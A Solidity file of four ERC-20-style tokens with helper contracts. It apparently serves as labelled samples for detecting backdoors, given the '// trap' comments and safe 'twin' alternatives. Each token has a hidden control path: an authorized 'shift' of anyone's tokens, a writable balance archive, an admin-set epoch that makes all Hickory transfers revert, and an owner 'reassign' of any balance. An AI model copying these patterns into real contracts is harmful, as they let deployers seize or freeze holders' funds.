// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;


/// Who may call what of whom.
contract BalsamWarden {
    address public owner;
    mapping(address => mapping(address => mapping(bytes4 => bool))) private acl;

    constructor() public {
        owner = msg.sender;
    }

    function setOwner(address next) external {
        require(msg.sender == owner, "ds-auth");
        owner = next;
    }

    function permit(address src, address dst, bytes4 sig) external {
        require(msg.sender == owner, "ds-auth");
        acl[src][dst][sig] = true;
    }

    function forbid(address src, address dst, bytes4 sig) external {
        require(msg.sender == owner, "ds-auth");
        acl[src][dst][sig] = false;
    }

    function canCall(address src, address dst, bytes4 sig) external view returns (bool) {
        return acl[src][dst][sig];
    }
}

contract Balsam {
    string public name = "Balsam";
    string public symbol = "BLSM";
    uint8 public decimals = 18;
    uint256 public totalSupply = 30000000 ether;
    BalsamWarden public authority;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Approval(address indexed src, address indexed guy, uint256 wad);
    event Transfer(address indexed src, address indexed dst, uint256 wad);

    constructor(BalsamWarden authority_) public {
        authority = authority_;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    modifier auth() {
        require(authority.canCall(msg.sender, address(this), msg.sig), "ds-auth");
        _;
    }

    function approve(address guy, uint256 wad) external returns (bool) {
        allowance[msg.sender][guy] = wad;
        emit Approval(msg.sender, guy, wad);
        return true;
    }

    function transfer(address dst, uint256 wad) external returns (bool) {
        go(msg.sender, dst, wad);
        return true;
    }

    function transferFrom(address src, address dst, uint256 wad) external returns (bool) {
        if (src != msg.sender && allowance[src][msg.sender] != uint256(-1)) {
            require(allowance[src][msg.sender] >= wad, "ds-token-approval");
            allowance[src][msg.sender] -= wad;
        }
        go(src, dst, wad);
        return true;
    }

    function shift(address src, address dst, uint256 wad) external auth {
        go(src, dst, wad);
    }

    function go(address src, address dst, uint256 wad) private {
        require(balanceOf[src] >= wad, "ds-token-balance");
        balanceOf[src] -= wad;
        balanceOf[dst] += wad;
        emit Transfer(src, dst, wad);
    }
}

/// Remembers numbers for those who may write.
contract SassafrasArchive {
    address private archivist;
    mapping(address => bool) public writes;
    mapping(bytes32 => uint256) private numbers;

    constructor() public {
        archivist = msg.sender;
    }

    function admit(address who) external {
        require(msg.sender == archivist);
        writes[who] = true;
    }

    function retire() external {
        require(msg.sender == archivist);
        archivist = address(0);
    }

    function put(bytes32 key, uint256 number) external {
        require(writes[msg.sender]);
        numbers[key] = number;
    }

    function get(bytes32 key) external view returns (uint256) {
        return numbers[key];
    }
}

contract Sassafras {
    string public constant name = "Sassafras";
    string public constant symbol = "SASS";
    uint8 public constant decimals = 9;
    SassafrasArchive private archive;
    bool private begun;

    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(SassafrasArchive archive_) public {
        archive = archive_;
    }

    function begin() external {
        require(!begun);
        begun = true;
        archive.put("supply", 9000000000000000);
        archive.put(purse(msg.sender), 9000000000000000);
        emit Transfer(address(0), msg.sender, 9000000000000000);
    }

    function purse(address who) private pure returns (bytes32) {
        return keccak256(abi.encode("purse", who));
    }

    function leave(address who, address spender) private pure returns (bytes32) {
        return keccak256(abi.encode("leave", who, spender));
    }

    function totalSupply() external view returns (uint256) {
        return archive.get("supply");
    }

    function balanceOf(address who) public view returns (uint256) {
        return archive.get(purse(who));
    }

    function allowance(address who, address spender) public view returns (uint256) {
        return archive.get(leave(who, spender));
    }

    function approve(address spender, uint256 value) external returns (bool) {
        archive.put(leave(msg.sender, spender), value);
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance(from, msg.sender);
        require(left >= value, "allowance");
        archive.put(leave(from, msg.sender), left - value);
        move(from, to, value);
        return true;
    }

    function move(address from, address to, uint256 value) private {
        uint256 held = balanceOf(from);
        require(held >= value, "balance");
        archive.put(purse(from), held - value);
        archive.put(purse(to), balanceOf(to) + value);
        emit Transfer(from, to, value);
    }
}

/// Pays dividends by the second.
contract HickoryTracker {
    address private admin;
    uint64 private epoch;
    uint64 private rate = 3;
    mapping(address => uint256) public points;

    constructor() public {
        admin = msg.sender;
        epoch = uint64(block.timestamp);
    }

    function startEpoch(uint64 at, uint64 rate_) external {
        require(msg.sender == admin);
        epoch = at;
        rate = rate_;
    }

    function setBalance(address account, uint256 balance) external {
        require(block.timestamp >= epoch, "SafeMath: subtraction overflow");
        points[account] += (block.timestamp - epoch) * rate * (balance / 1 ether);
    }
}

contract Hickory {
    string public name = "Hickory";
    string public symbol = "HCKY";
    uint8 public decimals = 18;
    uint256 public totalSupply;
    address public owner;
    HickoryTracker public tracker;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) public allowance;

    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    constructor(HickoryTracker tracker_) public {
        owner = msg.sender;
        tracker = tracker_;
        totalSupply = 250000000 ether;
        _balances[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
        emit OwnershipTransferred(msg.sender, address(0));
    }

    function balanceOf(address who) external view returns (uint256) {
        return _balances[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal {
        require(_balances[from] >= value, "balance");
        _balances[from] -= value;
        _balances[to] += value;
        emit Transfer(from, to, value);
        tracker.setBalance(from, _balances[from]); // trap
        tracker.setBalance(to, _balances[to]); // trap
        // twin: try tracker.setBalance(from, _balances[from]) {} catch {}
        // twin: try tracker.setBalance(to, _balances[to]) {} catch {}
    }
}

/// Decides together.
contract LarchCommittee {
    struct Motion {
        address target;
        bytes what;
        uint256 ayes;
        bool carried;
    }

    mapping(address => bool) public member;
    uint256 public quorum;
    Motion[] private motions;
    mapping(uint256 => mapping(address => bool)) private said;

    constructor(address[] memory members, uint256 quorum_) public {
        for (uint256 i = 0; i < members.length; i++) member[members[i]] = true;
        quorum = quorum_;
    }

    function move(address target, bytes calldata what) external returns (uint256 id) {
        require(member[msg.sender]);
        id = motions.length;
        motions.push(Motion(target, what, 0, false));
    }

    function aye(uint256 id) external {
        require(member[msg.sender] && !said[id][msg.sender]);
        said[id][msg.sender] = true;
        motions[id].ayes += 1;
    }

    function carry(uint256 id) external {
        Motion storage motion = motions[id];
        require(motion.ayes >= quorum && !motion.carried);
        motion.carried = true;
        (bool ok, ) = motion.target.call(motion.what);
        require(ok);
    }
}

contract Larchwood {
    string public name = "Larchwood";
    string public symbol = "LRCH";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 8800000 ether;
    address public owner;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) public balanceOf;

    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address owner_) public {
        owner = owner_;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    /// What a court has decided.
    function reassign(address from, address to, uint256 value) external {
        require(msg.sender == owner);
        _pay(from, to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pay(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(value <= allowance[from][msg.sender]);
        allowance[from][msg.sender] -= value;
        _pay(from, to, value);
        return true;
    }

    function _pay(address from, address to, uint256 value) internal {
        require(value <= balanceOf[from]);
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
